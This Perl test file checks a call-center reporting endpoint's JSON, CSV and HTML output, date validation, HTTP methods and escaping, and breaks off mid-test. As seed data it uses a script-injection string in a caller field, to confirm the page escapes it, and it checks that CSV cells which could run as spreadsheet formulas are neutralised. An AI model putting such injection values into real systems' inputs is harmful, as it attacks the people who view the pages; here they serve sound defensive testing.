# minicc-report (doc/contract.txt, 5; issue 5): every figure of the JSON for rows
# seeded through the webhooks themselves, the thresholds' boundaries, an
# empty day, ranges across midnight; CSV read back with a real CSV parser;
# the HTML page rendered by headless Chromium (charts, tiles, call-back
# list, no external resources, no console errors, a screenshot in
# t/logs/report.png); Japanese; bad parameters, methods, HEAD; escaping.
#
# Named 30_ so that it runs after the files that write rows; it empties the
# data tables first, so that only its own rows are counted.
use strict;
use warnings FATAL => 'all';
use FindBin;
use lib "$FindBin::Bin/lib";
use Apache::Test qw(-withtestmore);
use Apache::TestRequest ();
use MiniCCTest;
use MiniCCReport;
use Encode qw(decode encode);
use URI::Escape qw(uri_unescape);
use Time::Local qw(timegm);

my @hour_classes = qw(offered answered abandoned);
my @tile_ids = qw(offered answered abandoned short_abandoned abandon_rate asa_seconds
                  service_level longest_wait_seconds avg_call_seconds spool_backlog);
my @required = (qw(offered answered abandoned short_abandoned abandon_rate asa_seconds
                   service_level service_level_seconds longest_wait_seconds
                   avg_call_seconds by_hour operators abandoned_calls spool_backlog));
my %int_figure = map { $_ => 1 } qw(offered answered abandoned short_abandoned
                                    service_level_seconds longest_wait_seconds spool_backlog);
# Printed precision: rates with 4 decimals, seconds with 1 (half a unit of
# the last digit is the most a correctly rounded figure can differ).
my %tolerance = (abandon_rate => 0.00005, service_level => 0.00005,
                 asa_seconds => 0.05, avg_call_seconds => 0.05);

my @bad = (
    # [query pairs], what the message must name, a name
    [[from => '2023-02-29'], 'from-date', 'from: 29 February of a common year'],
    [[from => '2023-13-01'], 'from-date', 'from: month 13'],
    [[from => '2023-04-31'], 'from-date', 'from: 31 April'],
    [[from => '2023-00-10'], 'from-date', 'from: month 0'],
    [[from => '2023-4-01'],  'from-date', 'from: one-digit month'],
    [[from => '20230401'],   'from-date', 'from: no dashes'],
    [[from => 'yesterday'],  'from-date', 'from: a word'],
    [[from => ''],           'from-date', 'from: empty'],
    [[from => '2023-01-01x'], 'from-date', 'from: trailing junk'],
    [[to => '2023-02-30'],   'to-date',   'to: 30 February'],
    [[to => 'tomorrow'],     'to-date',   'to: a word'],
    [[from => '2023-11-15', to => '2023-11-14'], 'order', 'from after to'],
    # SPEC 17: at most 366 days (a request for 8,000 years once took a
    # child to 3.8 GB and an abort)
    [[from => '1970-01-01', to => '9998-12-31'], 'range', 'from 1970 to 9998'],
    [[from => '2023-01-01', to => '2024-01-02'], 'range', '367 days'],
    [[from => '2023-03-01', to => '2024-03-01'], 'range', '367 days across a leap day'],
    [[format => 'xml'],      'format',    'format=xml'],
    [[format => ''],         'format',    'format empty'],
    [[format => 'csv', table => 'calls'], 'table', 'csv table=calls'],
    [[format => 'csv', table => ''],      'table', 'csv table empty'],
);
my %bad_message = (
    'from-date' => sub { $_[0] =~ /\bfrom\b/i && $_[0] =~ /date|YYYY/i && $_[0] !~ /\bafter\b/i },
    'to-date'   => sub { $_[0] =~ /\bto\b/i && $_[0] =~ /date|YYYY/i && $_[0] !~ /\bfrom\b/i },
    'order'     => sub { $_[0] =~ /\bfrom\b/i && $_[0] =~ /\bto\b/i && $_[0] =~ /after|before|later|earlier/i },
    'format'    => sub { $_[0] =~ /\bformat\b/i },
    'table'     => sub { $_[0] =~ /\btable\b/i },
    'range'     => sub { $_[0] =~ /\b366 days\b/ },
);

plan tests =>
    1 + 2                       # empty tables; seeding
  + 2 + 1 + 1 + 11 + 2 + 2 + 1  # the seeded day's JSON
  + 2                           # no from/to: today
  + 1 + 11 + 2                  # MiniCCServiceLevel 30 / MiniCCShortAbandon 10
  + 1                           # ja-JP: the same figures
  + 1 + 3 * 4 + 3 + 2           # across midnight; an empty day; year end and leap day
  + 5 * 6 + 1 + 1 + 1           # CSV
  + 2 * @bad + 3 + 5            # 400s, 405s, HEAD
  + 3                           # the longest range: 366 days
  + 6                           # CSV cells that would be formulas
  + 4 + 4 + 2                   # the HTML as sent: English, Japanese, thresholds
  + 2                           # Chromium is there, its console check works
  + 32                          # the seeded day's page in Chromium
  + 8                           # the two-day page
  + 3                           # the Japanese page
  + 2;                          # the screenshot

# ---------------------------------------------------------------------------
# A clean slate: only this file's rows are counted.
my @data_tables = qw(enqueue_data queue_data statuscallback_data operator_sessions);
# TRUNCATE fires no trigger: the report's summaries are emptied with them.
db_do("TRUNCATE TABLE $_") for @data_tables, qw(report_hours report_hangups report_pickups
                                                report_operators operator_states);
is_deeply({ map { $_ => scalar dbh()->selectrow_array("SELECT COUNT(*) FROM $_") } @data_tables },
          { map { $_ => 0 } @data_tables }, 'the data tables are empty');

# ---------------------------------------------------------------------------
# Seed through the webhooks.
my $QUOTED = '+1 555 "Q", x';                 # CSV needs quoting
my $SCRIPT = '<script>alert("x")</script>';   # HTML needs escaping
my %op = (A => { sid => sid(), telnum => '+15550001001' },
          B => { sid => sid(), telnum => '+15550001002' });
# Customers leaving the queue: [tag, QueueResult, QueueTime, From, operator
# who picked up (a queue_data row with that QueueTime)].
my @calls = (
    [E1  => 'bridged',                 10, '+15550003001', 'A'],
    [E2  => 'bridged',                 20, '+15550003002', 'A'],   # = service level: within
    [E3  => 'bridging-in-process',     21, '+15550003003', 'B'],   # service level + 1: not
    [E4  => 'redirected-from-bridged', 30, '+15550003004', 'A'],   # = 30: within at SL 30
    [E5  => 'hangup',                   5, '+15550002005'],        # = short abandon: abandoned
    [E6  => 'hangup',                   4, '+15550002006'],        # short
    [E7  => 'hangup',                   0, '+15550002007'],        # short
    [E8  => 'hangup',                  45, $QUOTED],
    [E9  => 'leave',                  120, '+15550003009'],        # the longest wait
    [E10 => 'redirected',               7, '+15550003010'],
    [E11 => 'hangup',                  12, $SCRIPT],
    [E12 => 'hangup',                  10, '+15550002012'],        # = 10: abandoned at 10 too
    [E13 => 'hangup',                   9, '+15550002013'],        # short at 10
    [E14 => 'error',                    2, '+15550003014'],
    [E15 => 'bridged',                 31, '+15550003015', 'B'],
);
# Status callbacks: only completed calls count for avg_call_seconds.
my @status = (['completed', 60], ['completed', 90], ['completed', 120],
              ['busy', 0], ['no-answer', 500], ['in-progress', 1000]);

my @seed_fail;
sub hook {
    my ($h, @pairs) = @_;
    my $res = post("/minicc/$h", [@pairs]);
    push @seed_fail, "$h: " . $res->code . ' ' . $res->content unless $res->code == 200;
}
for my $o (sort keys %op) {
    hook('operator', CallSid => $op{$o}{sid}, From => $op{$o}{telnum}, To => '+15559990000',
         CallStatus => 'in-progress', Direction => 'inbound');
}
my %sid;
for my $c (@calls) {
    my ($tag, $qr, $qt, $from, $o) = @$c;
    $sid{$tag} = sid();
    my @common = (CallSid => $sid{$tag}, From => $from, To => '+15559990000',
                  CallStatus => 'in-progress', ApiVersion => '2010-04-01', Direction => 'inbound');
    # An answered caller: Queue's url (guidance) when the operator picks
    # up, Enqueue's action (exit) after the conversation.
    hook('guidance', @common, QueueSid => sid('QU'), QueueTime => $qt,
         DequeingCallSid => $op{$o}{sid}) if $o;
    hook('exit', @common, QueueResult => $qr, QueueSid => sid('QU'), QueueTime => $qt);
}
for my $s (@status) {
    hook('status', CallSid => sid(), From => '+15550005000', To => '+15559990000',
         CallStatus => $s->[0], CallDuration => $s->[1], ApiVersion => '2010-04-01');
}
ok(!@seed_fail, 'every seeding webhook answered 200') or diag(join "\n", @seed_fail);
is_deeply({ map { $_ => scalar dbh()->selectrow_array("SELECT COUNT(*) FROM $_") } @data_tables },
          { enqueue_data => 15, queue_data => 5, statuscallback_data => 6, operator_sessions => 2 },
          'the webhooks recorded every row');

# When the rows arrived (the server's local time): the range to ask for is
# their day (two days if the seeding ran across midnight).
my %time_of = map { $_->[0] => $_->[1] }
    @{ dbh()->selectall_arrayref('SELECT CallSid, CAST(`Time` AS CHAR) FROM enqueue_data') };
my @days = sort keys %{ { map { substr($_->[0], 0, 10) => 1 } @{ dbh()->selectall_arrayref(
    'SELECT CAST(`Time` AS CHAR) FROM enqueue_data UNION SELECT CAST(`Time` AS CHAR) FROM queue_data '
  . 'UNION SELECT CAST(`Time` AS CHAR) FROM statuscallback_data') } } };
my ($FROM, $TO) = ($days[0] // '1970-01-01', $days[-1] // '1970-01-01');
diag("seeded range: $FROM .. $TO");

# ---------------------------------------------------------------------------
# Helpers

sub iso { my ($t) = @_; return undef unless defined $t; my $s = substr($t, 0, 19); $s =~ s/ /T/; $s }

# Every hour of the days from..to, in order.
sub hours_of {
    my ($from, $to) = @_;
    my ($y, $m, $d) = split /-/, $from;
    my $t = timegm(0, 0, 12, $d, $m - 1, $y);
    my @h;
    for (my $n = 0; $n < 400; $n++, $t += 86400) {
        my @g = gmtime $t;
        my $day = sprintf '%04d-%02d-%02d', $g[5] + 1900, $g[4] + 1, $g[3];
        push @h, map { sprintf '%sT%02d', $day, $_ } 0 .. 23;
        last if $day eq $to;
    }
    return @h;
}

# by_hour expected from rows [time, QueueResult, QueueTime].
sub by_hour_of {
    my ($from, $to, $sa, @rows) = @_;
    my %n;
    for my $r (@rows) {
        my $h = substr(iso($r->[0]), 0, 13);
        $n{$h}{offered}++;
        $n{$h}{answered}++ if $r->[1] =~ /\A(?:bridged|bridging-in-process|redirected-from-bridged)\z/;
        $n{$h}{abandoned}++ if $r->[1] eq 'hangup' && $r->[2] >= $sa;
    }
    return [ map { my $h = $_; { hour => $h, map { $_ => $n{$h}{$_} // 0 } @hour_classes } } hours_of($from, $to) ];
}

sub figure_ok {
    my ($got, $want, $k) = @_;
    return 0 unless defined $got && !ref $got && $got =~ /\A-?\d+(?:\.\d+)?(?:[eE][-+]?\d+)?\z/;
    return $int_figure{$k} ? ($got =~ /\A-?\d+\z/ && $got == $want)
                           : abs($got - $want) <= ($tolerance{$k} // 0) + 1e-9;
}

# The JSON's figures that are not lists: name => value, a figure of an
# object (callbacks) as object_name.
sub flat_figures {
    my ($j) = @_;
    return map { my $k = $_;
                 ref $j->{$k} eq 'HASH' ? (map { ("${k}_$_" => $j->{$k}{$_}) } keys %{ $j->{$k} })
                 : ref $j->{$k} ? () : ($k => $j->{$k}) } keys %{ $j || {} };
}

# One test per figure.
sub figures_each {
    my ($data, $want, $name) = @_;
    local $Test::Builder::Level = $Test::Builder::Level + 1;
    for my $k (sort keys %$want) {
        my $got = $data ? $data->{$k} : undef;
        ok(figure_ok($got, $want->{$k}, $k), "$name: $k = $want->{$k}")
            or diag("$k: got " . ($got // 'undef') . ", expected $want->{$k}");
    }
}

# All figures in one test.
sub figures_all {
    my ($data, $want, $name) = @_;
    local $Test::Builder::Level = $Test::Builder::Level + 1;
    my @wrong = map { "$_: got " . ($data && defined $data->{$_} ? $data->{$_} : 'undef') . ", expected $want->{$_}" }
                grep { !figure_ok($data ? $data->{$_} : undef, $want->{$_}, $_) } sort keys %$want;
    ok(!@wrong, "$name: figures") or diag(join "\n", @wrong);
}

sub norm_calls {
    my ($list) = @_;
    return [ map { { from => $_->{from}, time => iso($_->{time}), wait_seconds => $_->{wait_seconds} } } @{ $list // [] } ];
}
# A report without what moves with the clock: the seconds of operators'
# states not ended yet count until the request (their figures: t/50).
sub stable {
    my ($j) = @_;
    return $j unless ref $j eq 'HASH';
    return { %$j, operators => sort_ops($j->{operators}),
             operator_breaks => [ map { +{ %$_, seconds => 'moves' } } @{ $j->{operator_breaks} || [] } ] };
}

# the pick-ups per operator (the states' figures are t/50's; an operator
# whose call has only states in the range, recorded by a later part of
# this file, is listed with 0 pick-ups and left out here)
sub sort_ops { [ sort { ($a->{telnum} // '') cmp ($b->{telnum} // '') }
                 map { +{ telnum => $_->{telnum}, answered => $_->{answered} } }
                 grep { $_->{answered} } @{ $_[0] // [] } ] }

# ---------------------------------------------------------------------------
# The seeded day: every figure of the JSON.
my %want = (
    offered => 15,
    answered => 5,              # bridged x3, bridging-in-process, redirected-from-bridged
    abandoned => 5,             # hangup at 5, 9, 10, 12, 45
    short_abandoned => 2,       # hangup at 4, 0
    abandon_rate => 0.5,        # 5 / (5 + 5)
    asa_seconds => 22.4,        # (10 + 20 + 21 + 30 + 31) / 5
    service_level => 0.4,       # 10 and 20 of 5 pick-ups
    service_level_seconds => 20,
    longest_wait_seconds => 120,
    avg_call_seconds => 90,     # (60 + 90 + 120) / 3, completed only
    spool_backlog => 0,
);
my @enq_rows = map { [ $time_of{ $sid{ $_->[0] } }, $_->[1], $_->[2] ] } @calls;
my $want_hours = by_hour_of($FROM, $TO, 5, @enq_rows);
my $want_ops = [ { telnum => '+15550001001', answered => 3 }, { telnum => '+15550001002', answered => 2 } ];
sub abandoned_list {
    my ($sa) = @_;
    return [ map { { from => $_->[3], time => iso($time_of{ $sid{ $_->[0] } }), wait_seconds => $_->[2] } }
             sort { ($time_of{ $sid{ $b->[0] } } // '') cmp ($time_of{ $sid{ $a->[0] } } // '') }
             grep { $_->[1] eq 'hangup' && $_->[2] >= $sa } @calls ];
}
my $want_abandoned = abandoned_list(5);

my @range = (from => $FROM, to => $TO);
my ($res, $json) = report_json('/minicc/report', @range);
is($res->code, 200, 'JSON: 200');
like($res->header('Content-Type') // '', qr{\Aapplication/json\s*;\s*charset=utf-8\z}i, 'JSON: Content-Type application/json; charset=utf-8');
my @missing = grep { !$json || !exists $json->{$_} } @required;
ok(!@missing, 'JSON: every figure is there') or diag("missing: @missing");
is_deeply([ $json && $json->{from}, $json && $json->{to} ], [ $FROM, $TO ], 'JSON: from and to');
figures_each($json, \%want, 'JSON');
is(scalar @{ $json && $json->{by_hour} || [] }, 24 * @days, 'JSON: by_hour has 24 entries a day');
is_deeply($json && $json->{by_hour}, $want_hours, 'JSON: by_hour counts')
    or diag(explain([ grep { $_->{offered} } @{ $json && $json->{by_hour} || [] } ]));
{   # the days: sums of the expected hours
    my (%sum, @order);
    for my $h (@$want_hours) {
        my $d = substr($h->{hour}, 0, 10);
        push @order, $d unless $sum{$d};
        $sum{$d} //= { day => $d, offered => 0, answered => 0, abandoned => 0 };
        $sum{$d}{$_} += $h->{$_} for @hour_classes;
    }
    is_deeply($json && $json->{by_day}, [ @sum{@order} ], 'JSON: by_day, one entry a day: the sums of its hours')
        or diag(explain($json && $json->{by_day}));
}
is_deeply(sort_ops($json && $json->{operators}), $want_ops, 'JSON: operators (operator_sessions.telnum via DequeingCallSid)')
    or diag(explain($json && $json->{operators}));
is_deeply(norm_calls($json && $json->{abandoned_calls}), $want_abandoned, 'JSON: abandoned_calls, newest first')
    or diag(explain($json && $json->{abandoned_calls}));

# No from/to: today in the server's time zone, the same figures as asking for it.
{
    my @before = localtime;
    my ($r, $d) = report_json('/minicc/report');
    my @after = localtime;
    my %today = map { sprintf('%04d-%02d-%02d', $_->[5] + 1900, $_->[4] + 1, $_->[3]) => 1 } \@before, \@after;
    ok($d && $today{ $d->{from} // '' } && ($d->{to} // '') eq $d->{from}, 'no from/to: from = to = today')
        or diag('got ' . ($d ? ($d->{from} // 'undef') . ' .. ' . ($d->{to} // 'undef') : 'nothing') . ', today: ' . join(' or ', sort keys %today));
    my (undef, $e) = report_json('/minicc/report', from => $d ? $d->{from} : '', to => $d ? $d->{from} : '');
    is_deeply(stable($d), stable($e), 'no from/to: the same report as from=to=today');
}


# Other thresholds (MiniCCServiceLevel 30, MiniCCShortAbandon 10, set on an
# outer Location and merged in): the figures follow.
{
    my ($r, $d) = report_json('/report-sl30/report', @range);
    is($r->code, 200, 'SL 30/SA 10: 200');
    figures_each($d, { %want, service_level_seconds => 30,
                       service_level => 0.8,          # 10, 20, 21, 30 of 5 pick-ups
                       abandoned => 3,                # 10, 12, 45
                       short_abandoned => 4,          # 0, 4, 5, 9
                       abandon_rate => 0.375 },       # 3 / (5 + 3)
                 'SL 30/SA 10');
    is_deeply($d && $d->{by_hour}, by_hour_of($FROM, $TO, 10, @enq_rows), 'SL 30/SA 10: by_hour');
    is_deeply(norm_calls($d && $d->{abandoned_calls}), abandoned_list(10), 'SL 30/SA 10: abandoned_calls')
        or diag(explain($d && $d->{abandoned_calls}));
}

# The language changes the page, not the figures.
{
    my (undef, $d) = report_json('/report-ja/report', @range);
    is_deeply(stable($d), stable($json), 'ja-JP location: the same JSON');
}

# ---------------------------------------------------------------------------
# Across midnight, written directly with SQL on past days.
my $opC = sid();
{
    my @enq = (
        ['2023-11-13 23:59:59.999999', 'bridged', 8,  '+15550004001'],   # the day before
        ['2023-11-14 00:00:00.000000', 'hangup',  6,  '+15550004002'],
        ['2023-11-14 23:59:59.000000', 'bridged', 25, '+15550004003'],
        ['2023-11-14 23:59:59.999999', 'hangup',  7,  '+15550004004'],
        ['2023-11-15 00:00:00.000000', 'hangup',  9,  '+15550004005'],
        ['2023-11-15 00:00:00.000000', 'bridged', 40, '+15550004006'],
        ['2023-11-16 00:00:00.000000', 'hangup',  50, '+15550004007'],   # the day after
    );
    my $n = 0;
    for my $e (@enq) {
        $n += db_do('INSERT INTO enqueue_data (CallSid, `From`, QueueResult, QueueTime, `Time`) VALUES (?, ?, ?, ?, ?)',
                    sid(), $e->[3], $e->[1], $e->[2], $e->[0]);
    }
    $n += db_do('INSERT INTO operator_sessions (CallSid, telnum, Started, LastSeen) VALUES (?, ?, ?, ?)',
                $opC, '+15550001003', '2023-11-14 20:00:00', '2023-11-15 01:00:00');
    for my $q (['2023-11-14 23:59:59.000000', 20], ['2023-11-15 00:00:00.000000', 40],
               ['2023-11-13 23:59:59.999999', 8], ['2023-11-16 00:00:00.000000', 99]) {
        $n += db_do('INSERT INTO queue_data (CallSid, QueueTime, DequeingCallSid, `Time`) VALUES (?, ?, ?, ?)',
                    sid(), $q->[1], $opC, $q->[0]);
    }
    for my $s (['2023-11-14 23:59:59.000000', 30], ['2023-11-15 00:00:00.000000', 50],
               ['2023-11-13 23:59:59.999999', 1000], ['2023-11-16 00:00:00.000000', 1000]) {
        $n += db_do(q{INSERT INTO statuscallback_data (CallSid, CallStatus, CallDuration, `Time`) VALUES (?, 'completed', ?, ?)},
                    sid(), $s->[1], $s->[0]);
    }
    is($n, 7 + 1 + 4 + 4, 'midnight rows inserted');

    my %cases = (
        '2023-11-14 .. 2023-11-14' => {
            q => [from => '2023-11-14', to => '2023-11-14'],
            figures => { offered => 3, answered => 1, abandoned => 2, short_abandoned => 0,
                         abandon_rate => 2 / 3, asa_seconds => 20, service_level => 1,
                         service_level_seconds => 20, longest_wait_seconds => 25,
                         avg_call_seconds => 30, spool_backlog => 0 },
            hours => { '2023-11-14T00' => [1, 0, 1], '2023-11-14T23' => [2, 1, 1] },
            ops => [ { telnum => '+15550001003', answered => 1 } ],
            calls => [ ['+15550004004', '2023-11-14T23:59:59', 7], ['+15550004002', '2023-11-14T00:00:00', 6] ],
        },
        '2023-11-15 .. 2023-11-15' => {
            q => [from => '2023-11-15', to => '2023-11-15'],
            figures => { offered => 2, answered => 1, abandoned => 1, short_abandoned => 0,
                         abandon_rate => 0.5, asa_seconds => 40, service_level => 0,
                         service_level_seconds => 20, longest_wait_seconds => 40,
                         avg_call_seconds => 50, spool_backlog => 0 },
            hours => { '2023-11-15T00' => [2, 1, 1] },
            ops => [ { telnum => '+15550001003', answered => 1 } ],
            calls => [ ['+15550004005', '2023-11-15T00:00:00', 9] ],
        },
        '2023-11-14 .. 2023-11-15' => {
            q => [from => '2023-11-14', to => '2023-11-15'],
            figures => { offered => 5, answered => 2, abandoned => 3, short_abandoned => 0,
                         abandon_rate => 0.6, asa_seconds => 30, service_level => 0.5,
                         service_level_seconds => 20, longest_wait_seconds => 40,
                         avg_call_seconds => 40, spool_backlog => 0 },
            hours => { '2023-11-14T00' => [1, 0, 1], '2023-11-14T23' => [2, 1, 1],
                       '2023-11-15T00' => [2, 1, 1] },
            ops => [ { telnum => '+15550001003', answered => 2 } ],
            calls => [ ['+15550004005', '2023-11-15T00:00:00', 9], ['+15550004004', '2023-11-14T23:59:59', 7],
                       ['+15550004002', '2023-11-14T00:00:00', 6] ],
        },
    );
    for my $name (sort keys %cases) {
        my $c = $cases{$name};
        my %q = @{ $c->{q} };
        my (undef, $d) = report_json('/minicc/report', @{ $c->{q} });
        figures_all($d, $c->{figures}, $name);
        my $hours = [ map { my $v = $c->{hours}{$_} || [0, 0, 0];
                            { hour => $_, offered => $v->[0], answered => $v->[1], abandoned => $v->[2] } }
                      hours_of($q{from}, $q{to}) ];
        is_deeply($d && $d->{by_hour}, $hours, "$name: by_hour (" . scalar(@$hours) . ' hours)')
            or diag(explain([ grep { $_->{offered} } @{ $d && $d->{by_hour} || [] } ]));
        is_deeply(sort_ops($d && $d->{operators}), $c->{ops}, "$name: operators");
        is_deeply(norm_calls($d && $d->{abandoned_calls}),
                  [ map { { from => $_->[0], time => $_->[1], wait_seconds => $_->[2] } } @{ $c->{calls} } ],
                  "$name: abandoned_calls, newest first")
            or diag(explain($d && $d->{abandoned_calls}));
    }
}

# A day without calls: zeros, every hour still listed.
{
    my (undef, $d) = report_json('/minicc/report', from => '2001-01-01', to => '2001-01-01');
    figures_all($d, { map { $_ => ($_ eq 'service_level_seconds' ? 20 : 0) } keys %want }, 'empty day');
    is_deeply($d && $d->{by_hour},
              [ map { { hour => $_, offered => 0, answered => 0, abandoned => 0 } } hours_of('2001-01-01', '2001-01-01') ],
              'empty day: 24 hours of zeros');
    is_deeply([ $d && $d->{operators}, $d && $d->{abandoned_calls} ], [ [], [] ],
              'empty day: no operators, no call-backs');
}

# Hours across the end of a year and a leap day.
for my $r (['2023-12-31', '2024-01-01', 48], ['2024-02-28', '2024-03-01', 72]) {
    my (undef, $d) = report_json('/minicc/report', from => $r->[0], to => $r->[1]);
    my @got = map { $_->{hour} } @{ $d && $d->{by_hour} || [] };
    my @wh = hours_of($r->[0], $r->[1]);
    is_deeply(\@got, \@wh, "$r->[0] .. $r->[1]: $r->[2] hours, in order")
        or diag("got " . scalar(@got) . " hours: @got[0 .. ($#got < 5 ? $#got : 5)] ...");
}

# ---------------------------------------------------------------------------
# CSV, one table at a time, read back with Text::CSV: the JSON's values.
{
    my %header = (hours => [qw(hour offered answered abandoned)], days => [qw(day offered answered abandoned)],
                  operators => [qw(telnum answered talk_seconds wrapup_seconds break_seconds breaks
                                   logged_in_seconds handle_seconds occupancy)],
                  abandoned => [qw(from time wait_seconds)]);
    # the figures doc/contract.txt, 5 names (the JSON may carry more)
    my @scalars = ('from', 'to', grep { !ref $json->{$_} } grep { $_ !~ /\A(?:by_hour|operators|abandoned_calls)\z/ } @required);
    my %json_rows = (hours => $json->{by_hour}, days => $json->{by_day}, operators => $json->{operators},
                     abandoned => $json->{abandoned_calls});
    for my $table (qw(summary hours days operators abandoned)) {
        my $res = report_get('/minicc/report', @range, format => 'csv', table => $table);
        ok($res->code == 200 && ($res->header('Content-Type') // '') =~ m{\Atext/csv\b.*charset=utf-8}i,
           "CSV $table: 200, text/csv; charset=utf-8")
            or diag($res->code . ' ' . ($res->header('Content-Type') // 'no Content-Type'));
        my $cd = $res->header('Content-Disposition') // '';
        my ($fname) = $cd =~ /\Aattachment\s*;\s*filename="?([^";\/\\]+)"?\s*\z/i;
        ok(defined $fname && $fname =~ /\.csv\z/ && index($fname, $table) >= 0 && index($fname, $FROM) >= 0,
           "CSV $table: Content-Disposition attachment, a .csv file name with the table and the date")
            or diag("Content-Disposition: $cd");
        my $body = $res->content;
        ok(length($body) && $body =~ /\r\n\z/ && $body !~ /(?<!\r)\n/ && $body !~ /\r(?!\n)/,
           "CSV $table: CRLF line ends") or diag(explain($body));
        my $rows = csv_parse($body);
        ok($rows && @$rows >= 1, "CSV $table: parses (RFC 4180)");
        my $head = $rows ? shift @$rows : [];
        if ($table eq 'summary') {
            my %have = map { $_ => 1 } @$head;
            my @miss = grep { !$have{$_} } @scalars;
            ok(!@miss && $rows && @$rows == 1, 'CSV summary: a header with every JSON figure, one row')
                or diag("header: @$head; missing: @miss; rows: " . scalar(@{ $rows || [] }));
            my %row; @row{@$head} = @{ $rows && $rows->[0] || [] };
            my @wrong = grep { my $k = $_;
                               $k =~ /\A(?:from|to)\z/ ? ($row{$k} // '') ne ($json->{$k} // '')
                                                       : !figure_ok($row{$k}, $json->{$k}, $k) } @scalars;
            ok(!@wrong, 'CSV summary: values equal the JSON')
                or diag(join "\n", map { "$_: csv " . ($row{$_} // 'undef') . ", json " . ($json->{$_} // 'undef') } @wrong);
            # report.c writes both from one table: the summary's columns are
            # exactly the JSON's figures (an object's as object_name)
            my %flat = flat_figures($json);
            is_deeply([ sort @$head ], [ sort keys %flat ],
                      'CSV summary: exactly the JSON\'s figures, no more, no fewer (callbacks.requested as callbacks_requested)');
        } else {
            is_deeply($head, $header{$table}, "CSV $table: header row");
            # a text cell a spreadsheet would run as a formula starts with
            # an apostrophe (SPEC 17): the value is what follows it
            my @got = map { my %h; @h{@$head} = map { defined $_ ? s/\A'(?=[=+\-\@\t\r])//r : $_ } @$_; \%h }
                      @{ $rows || [] };
            my $want = $json_rows{$table} // [];
            if ($table eq 'operators') {
                # the seconds of states not ended yet move with the clock
                # between the two requests: the pick-ups (t/50 checks the
                # states' figures, in all three formats)
                $want = sort_ops($want);
                @got = @{ sort_ops(\@got) };
            }
            if ($table eq 'abandoned') {
                $_->{time} = iso($_->{time}) for @got;
                $want = norm_calls($want);
            }
            is_deeply(\@got, $want, "CSV $table: rows equal the JSON")
                or diag(explain(\@got));
        }
        if ($table eq 'abandoned') {
            ok(index($body, q{"'+1 555 ""Q"", x"}) >= 0,
               'CSV abandoned: a From with a comma and quotes is quoted, quotes doubled (and, starting with +, as text)')
                or diag($body);
        }
    }
    my $res = report_get('/minicc/report', from => '2023-11-14', to => '2023-11-15', format => 'csv', table => 'hours');
    my $rows = csv_parse($res->content);
    is(scalar(@{ $rows || [] }), 1 + 48, 'CSV hours over two days: a header and 48 rows');
}

# ---------------------------------------------------------------------------
# Bad parameters: 400, text/plain, saying which.
for my $b (@bad) {
    my ($q, $kind, $name) = @$b;
    my $res = report_get('/minicc/report', @$q);
    ok($res->code == 400 && ($res->header('Content-Type') // '') =~ m{\Atext/plain}i, "400: $name")
        or diag(report_url('/minicc/report', @$q) . ': ' . $res->code . ' ' . ($res->header('Content-Type') // ''));
    ok($bad_message{$kind}->($res->content), "400: $name: the message says which ($kind)")
        or diag('message: ' . $res->content);
}

# The longest range allowed: 366 days, every hour of them.
for my $q ([from => '2024-01-01', to => '2024-12-31'], [from => '2023-03-01', to => '2024-02-29']) {
    my ($res, $data) = report_json('/minicc/report', @$q);
    ok($res->code == 200 && $data && @{ $data->{by_hour} } == 366 * 24,
       "366 days ($q->[1] .. $q->[3]): 200, 8784 hours")
        or diag($res->code . ' ' . substr($res->content, 0, 200));
}
{
    my $res = report_get('/minicc/report', from => '2024-01-01', to => '2024-12-31', format => 'csv', table => 'hours');
    is(scalar(() = $res->content =~ /\n/g), 1 + 366 * 24, '366 days as CSV hours: a header and 8784 rows');
}

# Methods: GET and HEAD only.
{
    my $res = post_raw('/minicc/report', '', 'application/x-www-form-urlencoded');
    is($res->code, 405, 'POST: 405');
    my %allow = map { uc($_) => 1 } split /\s*,\s*/, $res->header('Allow') // '';
    ok($allow{GET} && $allow{HEAD} && !$allow{POST}, 'POST: Allow lists GET and HEAD, not POST')
        or diag('Allow: ' . ($res->header('Allow') // 'none'));
    $res = Apache::TestRequest::PUT('/minicc/report', content => 'x');
    is($res->code, 405, 'PUT: 405');

    $res = report_head('/minicc/report', @range);
    is($res->code, 200, 'HEAD: 200');
    like($res->header('Content-Type') // '', qr{\Atext/html\s*;\s*charset=utf-8\z}i, 'HEAD: Content-Type of the page');
    is(length($res->content), 0, 'HEAD: no body');
    $res = report_head('/minicc/report', @range, format => 'json');
    ok($res->code == 200 && ($res->header('Content-Type') // '') =~ m{\Aapplication/json}i && !length($res->content),
       'HEAD format=json: 200, application/json, no body');
    $res = report_head('/minicc/report', @range, format => 'csv', table => 'hours');
    ok($res->code == 200 && ($res->header('Content-Type') // '') =~ m{\Atext/csv}i
       && ($res->header('Content-Disposition') // '') =~ /\.csv/ && !length($res->content),
       'HEAD format=csv: 200, text/csv, Content-Disposition, no body');
}

# ---------------------------------------------------------------------------
# The HTML as sent.
my %html_of;
{
    my $res = report_get('/minicc/report', @range);
    my $html = decode('UTF-8', $res->content);
    $html_of{en} = $html;
    ok($res->code == 200 && ($res->header('Content-Type') // '') =~ m{\Atext/html\s*;\s*charset=utf-8\z}i,
       'HTML: 200, text/html; charset=utf-8');
    ok($html =~ /<html\b[^>]*\blang="en"/ && index($html, 'MiniCC call center report') >= 0, 'HTML: English, lang="en"');
    ok($html !~ /<script/i, 'HTML: no <script> anywhere (the seeded From is escaped)');
    ok(index($html, '&lt;script&gt;alert(') >= 0, 'HTML: the <script> From shown as text, escaped');

    $res = report_get('/report-ja/report', @range);
    my $ja = decode('UTF-8', $res->content);
    $html_of{ja} = $ja;
    ok($res->code == 200 && ($res->header('Content-Type') // '') =~ m{\Atext/html\s*;\s*charset=utf-8\z}i,
       'ja-JP HTML: 200, text/html; charset=utf-8');
    like($ja, qr/<html\b[^>]*\blang="ja"/, 'ja-JP HTML: lang="ja"');
    ok(index($ja, "\x{30b3}\x{30fc}\x{30eb}\x{30bb}\x{30f3}\x{30bf}\x{30fc}") >= 0, 'ja-JP HTML: コールセンター');
    ok(index($ja, "\x{653e}\x{68c4}\x{547c}") >= 0 && $ja !~ />\s*(?:Abandoned|Answered|Offered)\s*</,
       'ja-JP HTML: Japanese labels (放棄呼), not the English ones');

    $res = report_get('/report-sl30/report', @range);
    my $d30 = dom_parse($res->content);
    my $den = dom_parse(encode('UTF-8', $html));
    my $tile = $d30 ? $d30->findvalue('//*[@id="service_level"]') : '';
    my ($x30) = $d30 ? map { $_->value } $d30->findnodes('//svg[contains(@class, "waits")]//line[contains(concat(" ", @class, " "), " level ")]/@x1') : ();
